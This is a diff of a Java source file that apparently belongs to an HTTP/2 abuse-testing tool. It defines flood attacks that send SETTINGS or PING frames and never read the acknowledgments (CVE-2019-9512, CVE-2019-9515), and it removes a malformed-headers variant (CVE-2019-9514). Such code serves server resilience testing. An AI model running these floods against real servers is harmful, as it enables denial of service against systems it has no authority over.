@@ -1,35 +1,25 @@
 package io.resound.abuse;
 
 import java.nio.ByteBuffer;
-import java.util.function.IntFunction;
 
 import org.jspecify.annotations.Nullable;
 
 /**
  * Sends frames of HTTP/2 each of which the service replies to by a small one, and reads
- * none of these (CVE-2019-9512, CVE-2019-9514, CVE-2019-9515).
+ * none of these (CVE-2019-9512, CVE-2019-9515).
  *
  * @param name the name of the attack
- * @param frame makes the frame with an index, from 0
+ * @param type the type of the frames
+ * @param payload the payload of each
  */
-record UnreadReplies(String name, IntFunction<ByteBuffer> frame) implements Attack {
+record UnreadReplies(String name, int type, byte[] payload) implements Attack {
 
 	static UnreadReplies toSettings() {
-		byte[] nothing = {};
-		return new UnreadReplies("HTTP/2: SETTINGS, acknowledgments never read",
-				(index) -> Frames.frame(Frames.SETTINGS, 0, 0, nothing));
+		return new UnreadReplies("HTTP/2: SETTINGS, acknowledgments never read", Frames.SETTINGS, new byte[0]);
 	}
 
 	static UnreadReplies toPings() {
-		byte[] payload = new byte[8];
-		return new UnreadReplies("HTTP/2: PING, acknowledgments never read",
-				(index) -> Frames.frame(Frames.PING, 0, 0, payload));
-	}
-
-	static UnreadReplies toMalformedHeads() {
-		byte[] head = HeaderBlock.post().field("Upper-Case", "a").bytes();
-		return new UnreadReplies("HTTP/2: malformed heads, resets never read",
-				(index) -> Frames.frame(Frames.HEADERS, Frames.END_HEADERS | Frames.END_STREAM, 2 * index + 1, head));
+		return new UnreadReplies("HTTP/2: PING, acknowledgments never read", Frames.PING, new byte[8]);
 	}
 
 	@Override
@@ -41,11 +31,9 @@ record UnreadReplies(String name, IntFunction<ByteBuffer> frame) implements Atta
 	public Script script() {
 		return new Http2Script(Frames.INITIAL_WINDOW) {
 
-			private int index;
-
 			@Override
 			@Nullable ByteBuffer more() {
-				return UnreadReplies.this.frame.apply(this.index++);
+				return Frames.frame(UnreadReplies.this.type, 0, 0, UnreadReplies.this.payload);
 			}
 
 		};
